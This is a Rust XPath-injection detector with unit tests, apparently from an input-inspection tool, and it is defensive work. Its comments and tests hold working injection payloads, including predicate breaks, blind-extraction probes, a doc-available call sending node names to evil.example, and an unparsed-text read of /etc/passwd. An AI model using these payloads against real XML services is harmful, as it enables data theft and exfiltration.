//! XPath injection: a value that breaks out of the string literal of an XPath predicate and
//! adds a condition of its own (`' or name()='user' or 'x'='y`, `' or count(/*)=1 or 'a'='b`),
//! or that is itself a location path walking the document (`count(/child::node())`,
//! `/*[1]/*[2]/text()`, `string-length(name(/*[1]))`). SOAP and SAML services, XML
//! configuration lookups and `xmldsig` processors build such queries by concatenation, and a
//! blind attacker reads the whole document one `substring(…)` at a time.
//!
//! What makes a value XPath rather than SQL or prose: an axis (`child::`, `descendant::`) or a
//! node test (`node()`, `text()`) — words no other language writes that way — or one of XPath's
//! own functions applied to a path (`count(/`, `name(/*`). A quote break into `or`/`and` counts
//! when what follows is such a function (`name()`, `string-length(`): SQL's grammar does not
//! know them, so the SQL detector leaves them.

use super::subject::{class, dashed_word_start, find_iter, is_word, Hit, Needs, Subject, Tables};

/// What `detect` needs to fire (see [`Needs`]): a parenthesis (a function or a node test),
/// the `:` of an axis or the `|` of a union.
pub(crate) fn needs() -> Needs {
    Needs::classes(class::PAREN | class::COLON | class::PIPE)
}

/// XPath's axes (XPath 1.0 §2.2).
const AXES: &[&[u8]] = &[
    b"ancestor",
    b"ancestor-or-self",
    b"attribute",
    b"child",
    b"descendant",
    b"descendant-or-self",
    b"following",
    b"following-sibling",
    b"namespace",
    b"parent",
    b"preceding",
    b"preceding-sibling",
    b"self",
];

/// XPath functions a blind extraction uses, none of them SQL's: the node's name, its
/// position, its string value, the document's shape (and [`FETCHERS`]).
const FUNCTIONS: &[&[u8]] = &[
    b"name",
    b"local-name",
    b"namespace-uri",
    b"count",
    b"string-length",
    b"starts-with",
    b"normalize-space",
    b"translate",
    b"position",
    b"last",
    b"text",
    b"node",
    b"comment",
    b"processing-instruction",
    b"string-to-codepoints",
];

/// XPath 2.0 and XSLT functions that fetch a document by URI: in a query, a request the server
/// makes (`doc('http://169.254.169.254/…')`) or a local file it reads (`unparsed-text('/etc/…')`).
const FETCHERS: &[&[u8]] = &[
    b"doc",
    b"doc-available",
    b"document",
    b"unparsed-text",
    b"unparsed-text-lines",
    b"collection",
];

/// Finds XPath injection in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    let b = s.bytes();
    if s.has(class::COLON) {
        if let Some(h) = axis_step(b) {
            return Some(h);
        }
    }
    if s.has(class::PIPE) {
        if let Some(h) = union_break(b) {
            return Some(h);
        }
    }
    if !s.has(class::PAREN) {
        return None;
    }
    for open in memchr::memchr_iter(b'(', b) {
        let ws = dashed_word_start(b, open);
        let name = &b[ws..open];
        if !(FUNCTIONS.contains(&name) || FETCHERS.contains(&name))
            || (ws > 0 && is_word(b[ws - 1]))
        {
            continue;
        }
        if let Some(q) = quote_break_before(b, ws) {
            return Some(Hit::new("xpath.filter_break", q, open + 1));
        }
        // A function of a path: `count(/*)`, `name(/*[1])`, `count(//user)`.
        let arg = &b[open + 1..];
        if FETCHERS.contains(&name) && fetches(arg) {
            return Some(Hit::new("xpath.expression", ws, open + 2));
        }
        if arg.starts_with(b"/") && !arg.starts_with(b"/ ") && !arg.starts_with(b"/)") {
            return Some(Hit::new("xpath.expression", ws, open + 2));
        }
        // A node test as a step: `/text()`, `/node()`, `//comment()`.
        if matches!(name, b"text" | b"node" | b"comment")
            && arg.starts_with(b")")
            && ws > 0
            && matches!(b[ws - 1], b'/' | b'|')
        {
            return Some(Hit::new("xpath.expression", ws - 1, open + 2));
        }
    }
    None
}

/// Whether a fetching function's argument is a quoted URI with a scheme, or an absolute path.
fn fetches(arg: &[u8]) -> bool {
    let Some((&q, rest)) = arg.split_first() else {
        return false;
    };
    let scheme = rest
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    matches!(q, b'\'' | b'"')
        && (rest.starts_with(b"/") || (scheme >= 3 && rest[scheme..].starts_with(b"://")))
}

/// `child::node()`, `/descendant::user`, `ancestor-or-self::*`: an axis, `::`, then a node
/// test. Rust and C++ paths (`self::Config`, `std::io`) are neither preceded by `/` nor
/// followed by a node test.
fn axis_step(b: &[u8]) -> Option<Hit> {
    for at in find_iter(b, b"::") {
        let ws = dashed_word_start(b, at);
        if !AXES.contains(&&b[ws..at]) || (ws > 0 && is_word(b[ws - 1])) {
            continue;
        }
        let rest = &b[at + 2..];
        let node_test = rest.starts_with(b"*")
            || [
                &b"node()"[..],
                b"text()",
                b"comment()",
                b"processing-instruction(",
            ]
            .iter()
            .any(|t| rest.starts_with(t));
        let stepped =
            ws > 0 && b[ws - 1] == b'/' && rest.first().is_some_and(u8::is_ascii_alphabetic);
        if node_test || stepped {
            return Some(Hit::new("xpath.expression", ws, at + 2));
        }
    }
    None
}

/// `'] | //user`: the literal and its predicate closed, then a union with another path.
fn union_break(b: &[u8]) -> Option<Hit> {
    for bar in memchr::memchr_iter(b'|', b) {
        let mut i = bar;
        while i > 0 && b[i - 1] == b' ' {
            i -= 1;
        }
        let closed = i >= 2 && b[i - 1] == b']' && matches!(b[i - 2], b'\'' | b'"');
        let next = b[bar + 1..]
            .iter()
            .position(|&c| c != b' ')
            .map(|j| bar + 1 + j);
        if closed && next.is_some_and(|j| b[j] == b'/') {
            return Some(Hit::new("xpath.filter_break", i - 2, bar + 1));
        }
    }
    None
}

/// The quote that closes a literal, then (past a `]`) `or`/`and`, right before `at`:
/// `x' or name(`, `'] and count(`. Returns the quote's index.
fn quote_break_before(b: &[u8], at: usize) -> Option<usize> {
    let mut i = at;
    let back = |i: &mut usize| {
        while *i > 0 && b[*i - 1] == b' ' {
            *i -= 1;
        }
    };
    back(&mut i);
    let logic = [&b"or"[..], b"and"]
        .into_iter()
        .find(|w| b[..i].ends_with(w) && (i == w.len() || !is_word(b[i - w.len() - 1])))?;
    i -= logic.len();
    back(&mut i);
    if i > 0 && b[i - 1] == b']' {
        i -= 1;
    }
    let q = i.checked_sub(1)?;
    matches!(b[q], b'\'' | b'"').then_some(q)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    fn each_is(want: Option<&str>, texts: &[&str]) {
        for text in texts {
            assert_eq!(rule(text), want, "{text}");
        }
    }

    #[test]
    fn predicates_broken_out_of() {
        each_is(
            Some("xpath.filter_break"),
            &[
                "x' or name()='username' or 'x'='y",
                "' or string-length(name(/*[1]))=4 or ''='",
                "' and count(/*/*)=3 and ''='",
                "admin\" or starts-with(local-name(..),'u') or \"a\"=\"b",
                "x'] | //user[position()=1 and ''='",
                "x'] | //*[name='a",
                "'or text()='",
                "x' or doc-available(concat('http://evil.example/',name(/*))) or 'x'='y",
            ],
        );
    }

    #[test]
    fn location_paths_and_axes() {
        each_is(
            Some("xpath.expression"),
            &[
                "count(/child::node())",
                "/*[1]/*[2]/text()",
                "string-length(//user[1]/password)",
                "descendant-or-self::*",
                "/descendant::password",
                "x | //comment()",
                "name(/*[1])",
                "1 or doc('http://evil.example/')",
                "unparsed-text(\"/etc/passwd\")",
            ],
        );
    }

    #[test]
    fn code_and_prose_pass() {
        each_is(
            None,
            &[
                "use self::config::Settings;",
                "std::vec::Vec and parent::method()",
                "count (of items) / 2",
                "Please confirm the name (first and last) and the count (1/2).",
                "text() is a jQuery method",
                "see the doc('intro') section",
                "collection('users') in the shell",
                "She said 'or name (anyone)' twice",
                "the factor or name(x) helper",
                "name(s): Alice / Bob",
                "10:30::45",
            ],
        );
    }
}
